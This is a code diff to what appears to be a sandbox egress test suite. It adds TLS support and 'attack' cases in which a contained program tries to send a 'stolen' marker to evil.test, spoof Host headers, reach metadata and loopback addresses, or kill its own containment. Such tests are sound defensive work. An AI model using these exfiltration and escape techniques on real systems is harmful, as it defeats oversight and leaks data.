@@ -117,9 +117,14 @@ def answer_of(connection, request):
     return answer.decode(errors="replace")
 
 
-def http(host, target="/", port=80, method="GET", name=None, body=""):
+def https(host, target="/", **more):
+    return http(host, target, port=443, inside=ssl.create_default_context(), **more)
+
+
+def http(host, target="/", port=80, method="GET", name=None, body="", inside=None):
     request = f"{method} {target} HTTP/1.1\r\nHost: {name or host}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}"
-    answer = answer_of(connect(host, port), request.encode())
+    connection = connect(host, port)
+    answer = answer_of(inside.wrap_socket(connection, server_hostname=host) if inside else connection, request.encode())
     if not answer:
         raise Held("connection reset")
     line = answer.splitlines()[0]
@@ -168,7 +173,7 @@ def program_in_memory():
 
 
 attack("program-in-memory", program_in_memory)
-attack("api-by-another-program", lambda: http("model.test", "/v1/responses", method="POST", body="{}"))
+attack("api-by-another-program", lambda: https("model.test", "/v1/responses", method="POST", body="{}"))
 attack("stockade-from-inside", lambda: run_program(WORLD["program"], "kill", "--all"))
 
 
@@ -292,6 +297,9 @@ attack("metadata-by-name", lambda: http("metadata.cdn.test"))
 attack("localhost-by-name", lambda: http("localhost.cdn.test"))
 attack("host-loopback", lambda: connect("127.0.0.1", WORLD["loopback_port"]) and "connected")
 attack("unlisted-http", lambda: http("evil.test", "/?stolen=" + WORLD["marker"]))
+attack("path-inside-tls", lambda: https("api.test", "/private"))
+attack("post-inside-tls", lambda: https("api.test", "/status", method="POST", body="stolen"))
+attack("host-inside-tls", lambda: https("api.test", "/status", name="evil.test"))
 attack("unlisted-https", lambda: tls("evil.test"))
 attack("post-to-allowed-host", lambda: http("files.test", "/upload", method="POST", body=WORLD["marker"]))
 attack("path-not-allowed", lambda: http("files.test", "/private"))
